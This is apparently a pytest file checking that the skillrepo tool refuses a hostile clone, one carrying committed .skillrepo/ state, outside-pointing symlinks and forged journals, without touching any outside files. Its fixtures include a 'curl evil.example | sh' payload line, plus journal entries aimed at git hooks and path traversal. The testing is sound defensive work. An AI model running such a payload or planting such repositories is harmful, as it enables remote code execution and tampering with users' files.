"""A hostile clone: a repository whose commits carry the tool's working state (.skillrepo/ with a lock linked to a
file outside and a journal naming a file through a link) and links that point outside. Every command, and the
real commit hook, runs in a fresh clone of it: nothing outside the clone changes, no command gives a traceback,
and each refuses or reports with its message."""

from __future__ import annotations

import hashlib
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
from helpers import copy_bundled, git, git_env, init_git, run_in_process, write_files

REFUSED = ("error: .skillrepo/journal.json: git tracks this file in .skillrepo/, the tool's own working state, so a "
           "checkout brought it and no command acts on it; remove it from git (git rm -r --cached .skillrepo) and "
           "delete .skillrepo/\n")
TRACKED = REFUSED.removeprefix("error: .skillrepo/journal.json: ").rstrip("\n")

# Every command that takes a repository, as a user (or CI) would run it in the clone.
COMMANDS: dict[str, list[str]] = {
    "fmt": ["fmt"],
    "new": ["new", "A harmless title"],
    "import": ["import", "page.txt"],
    "preview": ["preview", "CR-1434"],
    "apply": ["apply", "CR-1434"],
    "revert": ["revert", "CR-1434"],
    "status": ["status"],
    "verify": ["verify"],
    "changelog": ["changelog"],
    "release": ["release", "1.0.0", "--out", "dist"],
    "authorize": ["authorize", "--base", "main", "--author", "someone"],
}


def digest(directory: Path) -> str:
    """A sha256 of a whole directory: every name, mode, file content and link target, links never followed."""
    h = hashlib.sha256()
    for dirpath, dirnames, filenames in os.walk(directory, followlinks=False):
        dirnames.sort()
        for name in sorted(dirnames + filenames):
            path = Path(dirpath, name)
            st = path.lstat()
            h.update(f"{path.relative_to(directory)}\0{st.st_mode:o}\0".encode())
            if path.is_symlink():
                h.update(os.readlink(path).encode())
            elif path.is_file():
                h.update(path.read_bytes())
    return h.hexdigest()


@pytest.fixture()
def sentinel(tmp_path: Path) -> Path:
    """Files outside the repository that a hostile clone aims at."""
    home = tmp_path / "home"
    write_files(home, {".bashrc": "export PATH=/usr/bin\n", "lockfile": "keep me\n",
                       "level-7.yaml": "level: 7\n", "notes/secret.txt": "do not touch\n"})
    return home


def hostile_clone(tmp_path: Path, sentinel: Path, with_state: bool) -> Path:
    """A fresh clone of a repository committing links outside (and, `with_state`, a .skillrepo/ as in the attack)."""
    origin = copy_bundled(tmp_path / "origin", with_hooks=True)
    write_files(origin, {".gitignore": ".skillrepo/\n"})
    (origin / ".cache").symlink_to(sentinel)
    (origin / "framework/skills/XTRA").symlink_to(sentinel / "notes")
    if with_state:
        entry = {"target": ".cache/.bashrc", "tmp": None, "backup": ".skillrepo/payload"}
        write_files(origin, {".skillrepo/payload": "curl evil.example | sh\n",
                             ".skillrepo/journal.json": json.dumps({"committed": False, "entries": [entry]})})
        (origin / ".skillrepo/lock").symlink_to(sentinel / "lockfile")
    init_git(origin)
    if with_state:  # git-ignored, as in every framework repository: a commit carries it all the same
        git(origin, "add", "-f", ".skillrepo")
        git(origin, "commit", "--quiet", "-m", "Hostile state")
    clone = tmp_path / "clone"
    git(tmp_path, "clone", "--quiet", str(origin), str(clone))
    (clone / "page.txt").write_text("CR-1500 A page\n")
    return clone


def no_traceback(result: subprocess.CompletedProcess[str]) -> None:
    assert "Traceback" not in result.stderr + result.stdout, result.stderr


def test_the_attack_is_refused_by_every_command(tmp_path: Path, sentinel: Path) -> None:
    clone = hostile_clone(tmp_path, sentinel, with_state=True)
    before = digest(sentinel)
    check = run_in_process("check", cwd=clone)
    no_traceback(check)
    assert check.returncode == 1
    assert [line for line in check.stdout.splitlines() if "P310" in line or "P311" in line] == [
        f".skillrepo/{name}:1:1: P310 {TRACKED}" for name in ("journal.json", "lock", "payload")]
    assert "framework/skills/XTRA:1:1: P305 symbolic link" in check.stdout
    for command, args in COMMANDS.items():
        result = run_in_process(*args, cwd=clone)
        no_traceback(result)
        if command == "authorize":  # it reads the pull request as data: the state it brings is what it refuses
            assert (result.returncode, result.stderr) == (1, ""), result.stderr
            assert result.stdout == "".join(
                f".skillrepo/{name}: adds to .skillrepo/, the tool's local state, which is never committed\n"
                for name in ("journal.json", "lock", "payload")) + \
                "refused: remove these 3 files from the pull request (git rm -r --cached .skillrepo/)\n"
            continue
        assert (result.returncode, result.stdout, result.stderr) == (1, "", REFUSED), command
    assert digest(sentinel) == before
    assert git(clone, "status", "--porcelain").stdout == "?? page.txt\n"  # nothing in the clone changed either


def test_the_commit_hook_refuses_the_attack(tmp_path: Path, sentinel: Path) -> None:
    clone = hostile_clone(tmp_path, sentinel, with_state=True)
    before = digest(sentinel)
    env = git_env(home=tmp_path)
    env["PRE_COMMIT_HOME"] = str(tmp_path / "pre-commit-cache")
    subprocess.run([sys.executable, "-m", "pre_commit", "install"], cwd=clone, env=env, check=True,
                   capture_output=True)
    path = clone / "framework/skills/ITOP/level-1.yaml"
    path.write_text(path.read_text().replace("Carries out routine", "Carries out regular", 1))
    git(clone, "add", "framework", env=env)
    result = git(clone, "commit", "-m", "Reword ITOP level 1", check=False, env=env)
    output = result.stdout + result.stderr
    assert result.returncode != 0 and "Traceback" not in output
    assert REFUSED.rstrip("\n") in output  # the fmt hook
    assert f".skillrepo/journal.json:1:1: P310 {TRACKED}" in output  # the check hook
    assert digest(sentinel) == before


def test_links_alone_never_lead_a_command_outside(tmp_path: Path, sentinel: Path) -> None:
    clone = hostile_clone(tmp_path, sentinel, with_state=False)
    before = digest(sentinel)
    check = run_in_process("check", cwd=clone)
    no_traceback(check)
    assert check.returncode == 1 and "framework/skills/XTRA:1:1: P305 symbolic link" in check.stdout
    for command, args in COMMANDS.items():
        result = run_in_process(*args, cwd=clone)
        no_traceback(result)
        assert result.returncode in (0, 1), (command, result.stderr)
    assert digest(sentinel) == before


def test_a_journal_of_this_machine_naming_a_path_through_a_link_is_refused(tmp_path: Path, sentinel: Path) -> None:
    """Even a journal with the right identity (as if this machine wrote it) never moves a file through a link."""
    from skillrepo import writing

    clone = hostile_clone(tmp_path, sentinel, with_state=False)
    (sentinel / "notes/.secret.txt.1.old").write_text("the payload\n")
    before = digest(sentinel)
    writing._write_journal(clone, [{"target": "framework/skills/XTRA/secret.txt", "tmp": None,
                                    "backup": "framework/skills/XTRA/.secret.txt.1.old"}], committed=False)
    message = (".skillrepo/journal.json: names framework/skills/XTRA/secret.txt, but framework/skills/XTRA: a "
               "symbolic link; the tool never writes through one, as it could lead outside the repository: replace "
               "the link with a directory; nothing was touched")
    check = run_in_process("check", cwd=clone)
    no_traceback(check)
    assert f"{message.replace(': ', ':1:1: P311 ', 1)}\n" in check.stdout
    for command in ("status", "apply"):
        result = run_in_process(*COMMANDS[command], cwd=clone)
        assert (result.returncode, result.stderr) == (1, f"error: {message}\n"), command
    assert digest(sentinel) == before and (clone / writing.JOURNAL).exists()


@pytest.mark.parametrize("entry", [
    {"target": ".git/hooks/pre-commit", "tmp": None, "backup": ".git/hooks/.pre-commit.1.old"},
    {"target": "framework/framework.yaml", "tmp": None, "backup": ".skillrepo/payload"},
    {"target": "framework/../../outside", "tmp": None, "backup": None},
])
def test_a_journal_of_this_machine_naming_what_no_write_makes_is_refused(git_root: Path, entry: dict[str, str]) -> None:
    """Only files under framework/ and changes/, with their temporaries and originals beside them, are ever moved."""
    from skillrepo import writing

    root = git_root
    writing._write_journal(root, [entry], committed=False)
    result = run_in_process("status", cwd=root)
    assert (result.returncode, result.stderr) == (1, (
        "error: .skillrepo/journal.json: not left by an interrupted skillrepo command on this machine: it names "
        "files that are not a write's own; nothing was touched: if no command of yours was interrupted here, "
        "delete .skillrepo/\n"))
